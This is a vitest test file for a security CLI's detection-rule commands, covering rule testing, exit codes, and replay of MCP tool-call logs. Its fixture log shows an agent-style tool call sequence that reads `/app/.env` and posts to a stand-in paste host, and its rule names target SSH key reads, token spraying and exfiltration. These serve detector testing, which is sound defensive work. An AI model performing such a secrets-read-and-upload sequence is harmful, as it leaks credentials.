/** The CLI: `rules test` exit codes 0/1/2 and messages, `--rules` on replay, validate-config with rules. */
import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { runCliCaptured } from '../../helpers/cli-io.js';

const FIXTURES = 'test/fixtures/rules';

function tmpFile(name: string, text: string): string {
  const file = join(mkdtempSync(join(tmpdir(), 'wt-rules-')), name);
  writeFileSync(file, text);
  return file;
}

describe('rules test', () => {
  it('exit 0 when every inline test passes (detections and correlations)', async () => {
    const run = await runCliCaptured(['rules', 'test', `${FIXTURES}/ssh-key-read.yml`, `${FIXTURES}/token-spray.yml`, `${FIXTURES}/exfil-sequence.yml`]);
    expect(run.stderr).toBe('');
    expect(run.stdout).toMatch(/^3 files, 6 rules, 14 tests: 14 passed, 0 failed/);
    expect(run.code).toBe(0);
  });

  it('exit 0 on the project rules/ folder (the default)', async () => {
    const run = await runCliCaptured(['rules', 'test']);
    expect(run.stdout).toMatch(/ 0 failed/);
    expect(run.code).toBe(0);
  });

  it('exit 1 when a test fails, printing the rule, the test and why', async () => {
    const run = await runCliCaptured(['rules', 'test', `${FIXTURES}/failing`]);
    expect(run.code).toBe(1);
    expect(run.stdout).toContain(
      'FAIL test/fixtures/rules/failing/wrong-expectation.yml: rule FIXTURE-DELETE-TOOL: test "this expectation is wrong on purpose": expected no match, got one: selection holds (condition: selection)',
    );
    expect(run.stdout).toContain('2 tests: 1 passed, 1 failed');
  });

  it('a failing correlation test says what each event matched', async () => {
    const file = tmpFile(
      'c.yml',
      `title: R\nid: R\ndetection: {s: {tool: a}, condition: s}\n---\ntitle: C\nid: C\ncorrelation: {type: event_count, rules: [R], timespan: 1m, condition: {gte: 2}}\ntests:\n  - name: one is not enough\n    match: true\n    events: [{tool: a}, {tool: b}]\n`,
    );
    const run = await runCliCaptured(['rules', 'test', file]);
    expect(run.code).toBe(1);
    expect(run.stdout).toContain('test "one is not enough": expected the correlation to fire, it did not (event 1: R; event 2: no referenced rule)');
  });

  it('exit 2 on an invalid rule, naming file, rule and key', async () => {
    const run = await runCliCaptured(['rules', 'test', `${FIXTURES}/invalid`]);
    expect(run.code).toBe(2);
    expect(run.stderr).toContain('invalid rule: test/fixtures/rules/invalid/bad-modifier.yml: rule FIXTURE-BAD-MODIFIER: detection.selection.tool|contans: unknown modifier "contans"');
  });

  it('exit 2 when a test event is not a v1 event', async () => {
    const file = tmpFile('e.yml', `title: R\nid: R\ndetection: {s: {tool: a}, condition: s}\ntests:\n  - {name: bad kind, match: true, event: {event: mcp.nope, tool: a}}\n`);
    const run = await runCliCaptured(['rules', 'test', file]);
    expect(run.code).toBe(2);
    expect(run.stderr).toMatch(/rule R: tests\[0\]\.event: not a v1 event: event: /);
  });

  it('exit 2 on a path that does not exist', async () => {
    const run = await runCliCaptured(['rules', 'test', 'no/such/rules']);
    expect(run.code).toBe(2);
    expect(run.stderr).toContain('no/such/rules: no such rule file or folder');
  });
});

const LOG = [
  { v: 1, event: 'mcp.call', time: '2026-03-01T10:00:00Z', server: { name: 'files' }, session: 's1', tool: 'read_file', arguments: { path: '/app/.env' } },
  { v: 1, event: 'mcp.call', time: '2026-03-01T10:00:09Z', server: { name: 'files' }, session: 's1', tool: 'http_post', arguments: { url: 'https://paste.example/x' } },
]
  .map((e) => JSON.stringify(e))
  .join('\n');

describe('--rules and config rules on replay', () => {
  it('--rules (repeatable) loads rule files; alerts carry the rule id', async () => {
    const log = tmpFile('a.jsonl', `${LOG}\n`);
    const without = await runCliCaptured(['replay', log, '-o', 'json']);
    expect(without.stdout).not.toContain('FIXTURE-');
    const run = await runCliCaptured(['replay', log, '-o', 'json', '--rules', `${FIXTURES}/exfil-sequence.yml`, '--rules', `${FIXTURES}/ssh-key-read.yml`]);
    expect(run.code).toBe(0);
    const detectors = run.stdout.split('\n').filter(Boolean).map((l) => (JSON.parse(l) as { detector: string }).detector);
    expect(detectors).toContain('FIXTURE-EXFIL-SEQUENCE');
    expect(detectors).not.toContain('FIXTURE-SECRET-READ');
  });

  it('config rules: paths are relative to the config file; ruleSettings apply; an invalid rule is exit 2', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'wt-rules-cfg-'));
    writeFileSync(join(dir, 'r.yml'), `title: Post\nid: MY-POST\nlevel: high\ndetection: {s: {tool: http_post}, condition: s}\n`);
    const log = join(dir, 'a.jsonl');
    writeFileSync(log, `${LOG}\n`);
    writeFileSync(join(dir, 'c.yaml'), 'rules: [r.yml]\n');
    const on = await runCliCaptured(['replay', log, '-o', 'json', '--config', join(dir, 'c.yaml')]);
    expect(on.stdout).toContain('"detector":"MY-POST"');
    writeFileSync(join(dir, 'off.yaml'), "rules: [r.yml]\nruleSettings: {MY-POST: {mode: shadow}}\n");
    expect((await runCliCaptured(['replay', log, '-o', 'json', '--config', join(dir, 'off.yaml')])).stdout).not.toContain('MY-POST');
    writeFileSync(join(dir, 'bad.yml'), 'title: B\nid: MY-BAD\ndetection: {s: {tool|re: "(a"}, condition: s}\n');
    writeFileSync(join(dir, 'bad.yaml'), 'rules: [bad.yml]\n');
    const bad = await runCliCaptured(['replay', log, '--config', join(dir, 'bad.yaml')]);
    expect(bad.code).toBe(2);
    expect(bad.stderr).toContain('rule MY-BAD: detection.s.tool|re: not a valid RE2 regular expression');
    const validate = await runCliCaptured(['validate-config', join(dir, 'bad.yaml')]);
    expect(validate.code).toBe(2);
    expect(validate.stderr).toContain('rule MY-BAD: detection.s.tool|re:');
  });
});
